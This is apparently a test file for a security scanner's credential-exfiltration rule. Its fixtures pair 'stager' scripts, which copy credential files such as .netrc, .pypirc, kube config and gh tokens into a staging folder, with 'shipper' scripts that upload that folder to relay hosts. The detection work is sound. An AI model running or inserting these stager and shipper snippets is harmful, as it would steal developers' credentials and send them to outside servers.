"""A staging folder as a hand-off between files: one script puts secret stores into files of a
folder, another lists that folder and sends what it finds (CREDENTIAL_EXFILTRATION, with the chain
across both files); the folder and the address may come from a config file the shipper parses with
code of its own."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors, scan_findings

_PY_STAGER = (
    "from pathlib import Path\n"
    "spool = Path('~/.local/state/diagkit').expanduser()\n"
    "spool.mkdir(parents=True, exist_ok=True)\n"
    "for name in ('.netrc', '.pypirc', '.npmrc'):\n"
    "    src = Path.home() / name\n"
    "    if src.exists():\n"
    "        (spool / (name.strip('.') + '.txt')).write_bytes(src.read_bytes())\n"
)


def test_a_shell_loop_over_the_folder_ships_what_a_python_stager_put_there(tmp_path: Path) -> None:
    shipper = (
        "#!/bin/bash\n"
        "for part in ~/.local/state/diagkit/*.txt; do\n"
        '  curl -s -T "$part" "https://intake.diagkit-relay.net/drop/$(basename "$part")"\n'
        "done\n"
    )
    errors = scan_errors(tmp_path, {"scripts/collect.py": _PY_STAGER, "scripts/ship.sh": shipper})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/ship.sh", 3) in errors


def test_a_folder_and_address_read_from_an_ini_by_hand(tmp_path: Path) -> None:
    settings = "[spool]\nfolder = ~/.local/state/diagkit\n\n[upload]\ntarget = https://intake.diagkit-relay.net/v2\n"
    shipper = (
        "import glob, os, requests\n"
        "def settings():\n"
        "    table, part = {}, ''\n"
        "    for raw in open(os.path.join(os.path.dirname(__file__), 'settings.ini')):\n"
        "        raw = raw.strip()\n"
        "        if raw.startswith('['):\n"
        "            part = raw[1:-1]; table[part] = {}\n"
        "        elif '=' in raw:\n"
        "            k, v = raw.split('=', 1); table[part][k.strip()] = v.strip()\n"
        "    return table\n"
        "s = settings()\n"
        "where = os.path.expanduser(s['spool']['folder'])\n"
        "for item in glob.glob(os.path.join(where, '*.txt')):\n"
        "    with open(item, 'rb') as fh:\n"
        "        requests.post(s['upload']['target'], files={'f': fh.read()})\n"
    )
    files = {"scripts/collect.py": _PY_STAGER, "scripts/ship.py": shipper, "settings.ini": settings}
    errors = scan_errors(tmp_path, files)
    assert ("CREDENTIAL_EXFILTRATION", "scripts/ship.py", 15) in errors


def test_a_folder_of_ordinary_logs_shipped_is_quiet(tmp_path: Path) -> None:
    stager = "#!/bin/sh\nD=$HOME/.local/state/diagkit\nmkdir -p $D\nuname -a > $D/uname.txt\ndf -h > $D/disk.txt\n"
    shipper = (
        '#!/bin/sh\nfor p in ~/.local/state/diagkit/*.txt; do curl -s -T "$p" https://intake.diagkit-relay.net/; done\n'
    )
    assert scan_errors(tmp_path, {"scripts/collect.sh": stager, "scripts/ship.sh": shipper}) == set()


def test_another_folder_shipped_carries_nothing_staged(tmp_path: Path) -> None:
    shipper = (
        '#!/bin/sh\nfor p in ~/.local/state/reports/*.txt; do curl -s -T "$p" https://intake.diagkit-relay.net/; done\n'
    )
    assert scan_errors(tmp_path, {"scripts/collect.py": _PY_STAGER, "scripts/ship.sh": shipper}) == set()


def test_a_copy_into_a_named_file_is_not_read_as_a_copy_into_a_folder(tmp_path: Path) -> None:
    stager = "#!/bin/sh\nmkdir -p ~/.cache/cfgdiff\ncp ~/.gitconfig ~/.cache/cfgdiff/.gitconfig.orig\n"
    assert scan_findings(tmp_path, {"scripts/keep.sh": stager}) == []


def test_a_copy_into_a_folder_keeps_the_file_name(tmp_path: Path) -> None:
    copy = "#!/bin/sh\ncp scripts/pre-push .git/hooks/\n"
    assert "PERSISTENCE" in {f.rule for f in scan_findings(tmp_path, {"scripts/hook.sh": copy})}


_SH_STAGER = (
    '#!/bin/sh\nS="$HOME/.local/share/tracebox"\nmkdir -p "$S"\n'
    'cp ~/.config/gh/hosts.yml "$S/gh.yml"\ncp ~/.kube/config "$S/kube.yml"\n'
)


def test_find_over_the_folder_runs_the_sender_on_each_staged_file(tmp_path: Path) -> None:
    shipper = (
        "#!/bin/sh\nfind ~/.local/share/tracebox -name '*.yml' -exec curl -s -T {} https://tracebox-sink.org/u/ \\;\n"
    )
    errors = scan_errors(tmp_path, {"scripts/stage.sh": _SH_STAGER, "scripts/push.sh": shipper})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/push.sh", 2) in errors


def test_a_node_shipper_reading_each_entry_of_the_folder(tmp_path: Path) -> None:
    shipper = (
        "const fs = require('fs'), path = require('path'), os = require('os');\n"
        "const box = path.join(os.homedir(), '.local', 'share', 'tracebox');\n"
        "for (const entry of fs.readdirSync(box)) {\n"
        "  const body = fs.readFileSync(path.join(box, entry));\n"
        "  fetch('https://tracebox-sink.org/u/' + entry, { method: 'PUT', body });\n"
        "}\n"
    )
    errors = scan_errors(tmp_path, {"scripts/stage.sh": _SH_STAGER, "scripts/push.js": shipper})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/push.js", 5) in errors


def test_a_node_shipper_of_another_folder_is_quiet(tmp_path: Path) -> None:
    shipper = (
        "const fs = require('fs'), path = require('path'), os = require('os');\n"
        "const box = path.join(os.homedir(), '.local', 'share', 'reports');\n"
        "for (const entry of fs.readdirSync(box)) {\n"
        "  const body = fs.readFileSync(path.join(box, entry));\n"
        "  fetch('https://tracebox-sink.org/u/' + entry, { method: 'PUT', body });\n"
        "}\n"
    )
    assert scan_errors(tmp_path, {"scripts/stage.sh": _SH_STAGER, "scripts/push.js": shipper}) == set()


_COPY_INTO_FOLDER = (
    "import os, shutil\n"
    "crate = os.path.expanduser('~/.local/share/tracebox')\n"
    "os.makedirs(crate, exist_ok=True)\n"
    "for item in ('~/.pypirc', '~/.config/gcloud/application_default_credentials.json'):\n"
    "    shutil.copy2(os.path.expanduser(item), crate)\n"
)


def test_an_archive_of_the_working_folder_after_cd(tmp_path: Path) -> None:
    shipper = '#!/bin/sh\ncd "$HOME/.local/share/tracebox" || exit 1\ntar czf /tmp/t.tgz .\ncurl -sT /tmp/t.tgz https://tracebox-sink.org/\n'
    errors = scan_errors(tmp_path, {"scripts/stage.py": _COPY_INTO_FOLDER, "scripts/push.sh": shipper})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/push.sh", 4) in errors


def test_an_archive_of_another_working_folder_is_quiet(tmp_path: Path) -> None:
    shipper = '#!/bin/sh\ncd "$HOME/work/site" || exit 1\ntar czf /tmp/t.tgz .\ncurl -sT /tmp/t.tgz https://tracebox-sink.org/\n'
    assert scan_errors(tmp_path, {"scripts/stage.py": _COPY_INTO_FOLDER, "scripts/push.sh": shipper}) == set()


def test_a_shipper_reading_its_settings_with_get(tmp_path: Path) -> None:
    settings = "spool_dir: ~/.local/share/tracebox\nsink: https://tracebox-sink.org/in\n"
    shipper = (
        "import os, pathlib, urllib.request\n"
        "conf = {}\n"
        "for row in open(os.path.join(os.path.dirname(__file__), 'shipper.yml')):\n"
        "    if ':' in row:\n"
        "        k, v = row.split(':', 1); conf[k.strip()] = v.strip()\n"
        "for f in pathlib.Path(os.path.expanduser(conf.get('spool_dir'))).glob('*'):\n"
        "    urllib.request.urlopen(urllib.request.Request(conf.get('sink'), data=f.read_bytes()))\n"
    )
    files = {"scripts/stage.sh": _SH_STAGER, "scripts/ship.py": shipper, "scripts/shipper.yml": settings}
    assert ("CREDENTIAL_EXFILTRATION", "scripts/ship.py", 7) in scan_errors(tmp_path, files)


def test_a_file_inside_a_folder_another_script_copied_whole_carries_the_store(tmp_path: Path) -> None:
    copier = "#!/bin/sh\nmkdir -p .handoff\ncp -R ~/.config/gh .handoff/tooling\n"
    sender = (
        "import urllib.request\n"
        "body = open('.handoff/tooling/hosts.yml', 'rb').read()\n"
        "urllib.request.urlopen('https://intake.handoff-relay.invalid/h', data=body)\n"
    )
    errors = scan_errors(tmp_path, {"bin/prepare.sh": copier, "bin/forward.py": sender})
    assert ("CREDENTIAL_EXFILTRATION", "bin/forward.py", 3) in errors


def test_a_file_inside_a_copied_folder_of_project_files_stays_quiet(tmp_path: Path) -> None:
    copier = "#!/bin/sh\nmkdir -p .handoff\ncp -R ./docs .handoff/site\n"
    sender = (
        "import urllib.request\n"
        "body = open('.handoff/site/index.html', 'rb').read()\n"
        "urllib.request.urlopen('https://pages.handoff-relay.invalid/publish', data=body)\n"
    )
    assert not scan_errors(tmp_path, {"bin/prepare.sh": copier, "bin/forward.py": sender})
